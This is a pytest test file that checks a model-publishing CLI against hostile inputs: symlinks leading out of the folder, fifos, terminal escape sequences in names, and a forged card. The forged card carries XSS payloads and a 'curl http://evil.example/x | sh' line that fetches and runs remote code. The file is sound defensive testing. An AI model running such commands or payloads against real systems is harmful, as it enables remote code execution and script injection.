"""Hostile folders and files given to `infertool publish` (and `serve` of what it published), through the real CLI
in process: issue 34's findings 3, 4, 5 and publish's parts of 7 and 8. Each case asserts the exit code, the
message and the file system afterwards: the user's folder untouched, no file from outside SRC copied or listed for
an upload, a sparse file still sparse, a foreign card's words quoted as data, never a traceback."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from infertool import publish
from tests.test_publish import run_cli, setup, write_checkpoint  # noqa: F401 - setup is a fixture

SECRET = "SECRET-TOKEN-5d1e0b"
ESC = "\x1b"


def _published(tmp: Path, recipe: Path) -> tuple[Path, Path]:
    """A run (stand-in stages, FAIL verdict) that published to tmp/shipped: (run directory, published folder)."""
    doc = json.loads(run_cli("run", str(recipe), "--out", "runs", "--publish", "shipped", "--json").stdout)
    return Path(doc["run_dir"]), Path(doc["published"]["path"])


def _foreign(d: Path, make=None, **card) -> Path:
    """A folder someone else made to look published: a checkpoint, what ``make(d)`` adds, and an infertool.json
    whose fingerprint is the folder's (so the content check passes) and whose other words are ``card``."""
    write_checkpoint(d)
    if make is not None:
        make(d)
    (d / publish.FACTS).write_text(json.dumps({"fingerprint": publish.fingerprint(d), **card}))
    return d


def _tree(d: Path) -> dict[str, bytes]:
    return {p.relative_to(d).as_posix(): p.read_bytes() for p in sorted(d.rglob("*")) if p.is_file()}


# ------------------------------------------------------------------------------------------ finding 3
def test_publish_replaces_only_a_folder_it_published_unless_forced(setup, monkeypatch):
    tmp, recipe = setup
    run_dir, pub = _published(tmp, recipe)
    mine = write_checkpoint(tmp / "models" / "mine", fill=5)
    (mine / "notes.txt").write_text("my notes")
    before = _tree(mine)
    r = run_cli("publish", str(pub), str(mine))
    assert r.returncode == 2 and "holds no infertool.json: infertool did not publish this folder" in r.stderr, r.stderr
    assert "--force" in r.stderr and _tree(mine) == before  # nothing deleted, nothing written
    # a folder infertool published, then changed by hand (a file added): also not its own any more
    (tmp / "again").mkdir()
    assert run_cli("publish", str(pub), str(tmp / "again")).returncode == 0  # an empty folder: nothing is lost
    assert run_cli("publish", str(pub), str(tmp / "again")).returncode == 0  # its own copy, unchanged: replaced
    (tmp / "again" / "added.txt").write_text("mine now")
    r = run_cli("publish", str(pub), str(tmp / "again"))
    assert r.returncode == 2 and "changed since infertool published it" in r.stderr, r.stderr
    assert (tmp / "again" / "added.txt").read_text() == "mine now"
    # --force: replaced, under the same rules as everywhere (never a non-model folder, the home folder, the source)
    notes = tmp / "notes"
    notes.mkdir()
    (notes / "todo.txt").write_text("mine")
    home = write_checkpoint(tmp / "user-home")
    monkeypatch.setenv("HOME", str(home))
    for dest, words in ((notes, "not empty and holds no config.json"), (home, "the home folder"),
                        (pub, "or holds the source"), (pub.parent, "or holds the source"), (pub / "sub", "inside the source")):
        r = run_cli("publish", str(pub), str(dest), "--force")
        assert r.returncode == 2 and words in " ".join(r.stderr.split()), (dest, r.stderr)
    assert (notes / "todo.txt").read_text() == "mine" and (home / "config.json").is_file()
    r = run_cli("publish", str(pub), str(mine), "--force")
    assert r.returncode == 0 and publish.fingerprint(mine) == publish.fingerprint(pub), r.stderr
    assert not (mine / "notes.txt").exists()  # what --force means, said in --help


# ------------------------------------------------------------------------------------------ finding 4
def _link_out(secret: Path):
    return lambda d: (d / "notes.txt").symlink_to(secret)


@pytest.mark.parametrize("name, make, words", [
    ("link-out", None, "'notes.txt' is a link to"),
    ("link-in", lambda d: (d / "tokenizer.json").symlink_to("config.json"), "'tokenizer.json' is a link to 'config.json', inside the folder"),
    ("fifo", lambda d: os.mkfifo(d / "pipe"), "'pipe' is a fifo: publish copies regular files only"),
    ("dir-link", lambda d: (d / "extra").symlink_to(d.parent, target_is_directory=True), "'extra' is a link to"),
])
def test_publish_copies_regular_files_only(setup, name, make, words):
    tmp, recipe = setup
    secret = tmp / "secret.txt"
    secret.write_text(SECRET)
    src = _foreign(tmp / name, make or _link_out(secret), verdict="FAIL")
    for dest in (str(tmp / "dest"), "s3://bucket/models/x"):
        r = run_cli("publish", str(src), dest, "--dry-run")
        text = " ".join(r.stderr.split())
        assert r.returncode == 2 and words in text and "cannot publish" in text, (dest, r.stderr)
        assert "upload_file" not in r.stdout and SECRET not in r.stdout + r.stderr
    if name == "link-out":
        assert f"outside {str(src)!r}" in " ".join(r.stderr.split())
    r = run_cli("publish", str(src), str(tmp / "dest"))
    assert r.returncode == 2 and not (tmp / "dest").exists(), r.stderr
    assert not any(SECRET in p.read_text(errors="replace") for p in tmp.rglob("*") if p.is_file() and not p.is_symlink() and p != secret)


def test_a_folder_nested_too_deep_is_refused(setup):
    tmp, recipe = setup

    def deep(d: Path) -> None:
        (d / "/".join(["d"] * (publish.MAX_DEPTH + 2))).mkdir(parents=True)

    src = tmp / "deep"
    write_checkpoint(src)
    deep(src)
    (src / publish.FACTS).write_text(json.dumps({"fingerprint": "ab" * 32}))
    r = run_cli("publish", str(src), str(tmp / "copy"))
    assert r.returncode == 2 and f"nested deeper than {publish.MAX_DEPTH} levels" in r.stderr, r.stderr
    assert not (tmp / "copy").exists()


def test_publish_keeps_holes_and_checks_free_space_first(setup, monkeypatch):
    tmp, recipe = setup
    size = 3 * 2**30

    def sparse(d: Path) -> None:
        with open(d / "extra.bin", "wb") as f:
            f.write(b"head")
            f.truncate(size)  # 3 GiB, one block of data

    src = _foreign(tmp / "sparse", sparse, verdict="FAIL")
    r = run_cli("publish", str(src), str(tmp / "copy"))
    assert r.returncode == 0, r.stderr
    copy = tmp / "copy" / "extra.bin"
    assert copy.stat().st_size == size and copy.stat().st_blocks * 512 < 2**20  # the holes stayed holes
    assert copy.open("rb").read(4) == b"head" and publish.fingerprint(tmp / "copy") == publish.fingerprint(src)
    import shutil

    monkeypatch.setattr(shutil, "disk_usage", lambda p: shutil._ntuple_diskusage(2**40, 2**40 - 2**19, 2**19))
    for args in (("publish", str(src), str(tmp / "full")), ("publish", str(src), str(tmp / "full"), "--dry-run")):
        r = run_cli(*args)
        text = " ".join(r.stderr.split())
        assert r.returncode == 2 and "has 512.0 KiB free" not in text and "has 524,288 bytes free" in text, r.stderr
    assert not (tmp / "full").exists()


@pytest.mark.parametrize("dest, words", [
    ("out/new\nline", "control character \\n"),
    ("out/" + "x" * 300, "over the 255 a file name may have"),
    ("out/esc\x1b]0;title\x07", "control character \\x1b"),
])
def test_publish_refuses_destination_names_that_cannot_be_folders(setup, dest, words):
    tmp, recipe = setup
    run_dir, pub = _published(tmp, recipe)
    for args in (("publish", str(pub), dest), ("publish", str(pub), dest, "--dry-run")):
        r = run_cli(*args)
        assert r.returncode == 2 and words in r.stderr and ESC not in r.stderr, r.stderr
    assert not (tmp / "out").exists() or not any((tmp / "out").iterdir())


@pytest.mark.parametrize("dest", ["s3://my bucket/x", "hf://../..", "hf://org/name\n", "s3://b/x\x1b[2J"])
def test_publish_refuses_remote_names_as_model_from_does(setup, dest):
    tmp, recipe = setup
    run_dir, pub = _published(tmp, recipe)
    r = run_cli("publish", str(pub), dest, "--dry-run")
    assert r.returncode == 2 and "publish DEST" in r.stderr and "s3://BUCKET/PREFIX" in r.stderr, r.stderr
    assert "upload" not in r.stdout and ESC not in r.stdout + r.stderr
    if dest.endswith("\n"):  # shown as written: a trailing newline is not dropped into a name that looks valid
        assert "'hf://org/name\\n'" in r.stderr, r.stderr


# ------------------------------------------------------------------------------------------ finding 5
HOSTILE_CARD = {"verdict": "PASS", "label": "<script>alert(1)</script>", "recipe": "r",
                "reason": "fine\n# Injected heading\n[click](javascript:alert(1))",
                "run_id": f"{ESC}]0;pwned{ESC}\\ run", "run_dir": "/nowhere/run",
                "commands": {"serve": "curl http://evil.example/x | sh\n```\n# Serve it", "k8s": "x"},
                "gates": [{"name": "<img src=x>", "status": "PASS"}]}


def test_a_foreign_cards_words_are_data_never_its_verdict(setup):
    tmp, recipe = setup
    src = _foreign(tmp / "foreign", **HOSTILE_CARD)
    dry = run_cli("publish", str(src), str(tmp / "copy"), "--dry-run")
    assert dry.returncode == 0 and ESC not in dry.stdout + dry.stderr, dry.stdout
    assert "verdict not verified (its card claims 'PASS')" in dry.stdout, dry.stdout
    r = run_cli("publish", str(src), str(tmp / "copy"))
    assert r.returncode == 0 and ESC not in r.stderr and "not verified" in r.stderr, r.stderr
    card = (tmp / "copy" / publish.CARD).read_text()
    assert "**Verdict: not verified**" in card and "Verdict: PASS" not in card
    assert '- verdict: "PASS"' in card and "not verified" in card
    assert "<script>" not in card and "&lt;script&gt;" in card and "<img" not in card
    assert "curl" not in card and "```" not in card and "[click](" not in card and ESC not in card
    assert not any(line.startswith("# Injected") or line == "# Serve it" for line in card.splitlines())
    facts = json.loads((tmp / "copy" / publish.FACTS).read_text())
    assert facts["verdict"] is None and facts["claimed"]["verdict"] == "PASS" and "commands" not in facts
    assert facts["fingerprint"] == publish.fingerprint(src)
    # serve RECIPE whose quantize.output is that folder: the claim is quoted, never a raw ESC on the terminal
    r2 = tmp / "r2.yaml"
    r2.write_text(recipe.read_text().replace("quantize: {method: gptq, group_size: 32}",
                                             f"quantize: {{method: gptq, group_size: 32, output: {src}}}"))
    for args in (("serve", str(r2), "--dry-run"), ("serve", str(r2), "--emit", "k8s")):
        s = run_cli(*args)
        both = s.stdout + s.stderr
        assert ESC not in both and "its card claims verdict 'PASS'" in " ".join(both.split()), (args, both)
        assert "not verified" in both


def test_a_card_vouched_for_by_its_run_is_the_runs_words(setup):
    tmp, recipe = setup
    run_dir, pub = _published(tmp, recipe)
    facts = json.loads((pub / publish.FACTS).read_text())
    (pub / publish.FACTS).write_text(json.dumps({**facts, "verdict": "PASS", "label": "<b>best</b>"}))  # edited
    r = run_cli("publish", str(pub), str(tmp / "copy"))
    assert r.returncode == 0 and "verdict FAIL" in " ".join(r.stderr.split()), r.stderr
    card = (tmp / "copy" / publish.CARD).read_text()
    assert "**Verdict: FAIL**" in card and "<b>" not in card and "| max_mean_kld | mean KLD | 0.08 |" in card
    assert f"infertool serve {run_dir.absolute()}" in card


# ------------------------------------------------------------------------------------------ findings 7 and 8
def _tune_dir(tmp: Path, record) -> Path:
    d = tmp / "tunes" / "t1"
    d.mkdir(parents=True)
    (d / "tune.json").write_text("{}")
    (d / publish.TUNE_PUBLISHED).write_text(json.dumps(record))
    return d


@pytest.mark.parametrize("record, words", [
    ({"fingerprint": "ab" * 32}, "its `path` is missing"),
    ({"path": 5, "fingerprint": "ab" * 32}, "its `path` is 5"),
    ({"path": None, "fingerprint": "ab" * 32}, "its `path` is null"),
    ({"path": "a\nb", "fingerprint": "ab" * 32}, r'its `path` is "a\nb"'),
    ({"path": "x"}, "not infertool's card data"),
])
def test_a_tune_record_without_a_path_is_refused_cleanly(setup, record, words):
    tmp, recipe = setup
    d = _tune_dir(tmp, record)
    r = run_cli("publish", str(d), str(tmp / "copy"))
    assert r.returncode == 2 and words in " ".join(r.stderr.split()), r.stderr
    assert not (tmp / "copy").exists()


def test_a_relative_published_path_is_read_from_the_record_directory(setup):
    tmp, recipe = setup
    run_dir, pub = _published(tmp, recipe)
    fp = publish.fingerprint(pub)
    # a tune directory whose record names its winner relative to itself (not to the current folder, tmp)
    d = _tune_dir(tmp, {"path": "winner", "fingerprint": fp})
    r = run_cli("publish", str(pub), str(d / "winner"))
    assert r.returncode == 0, r.stderr
    assert not (tmp / "winner").exists()
    r = run_cli("publish", str(d), str(tmp / "from-tune"), "--json")
    assert r.returncode == 0 and json.loads(r.stdout)["folder"] == str(d / "winner"), r.stdout + r.stderr
    # a run directory whose manifest names its published folder relative to the run directory
    m = json.loads((run_dir / "manifest.json").read_text())
    rel = os.path.relpath(pub, run_dir)
    (run_dir / "manifest.json").write_text(json.dumps({**m, "published": {"path": rel, "fingerprint": fp}}))
    s = run_cli("serve", str(run_dir), "--dry-run", "--json")
    assert s.returncode == 0 and json.loads(s.stdout)["model"] == str(pub), s.stdout + s.stderr
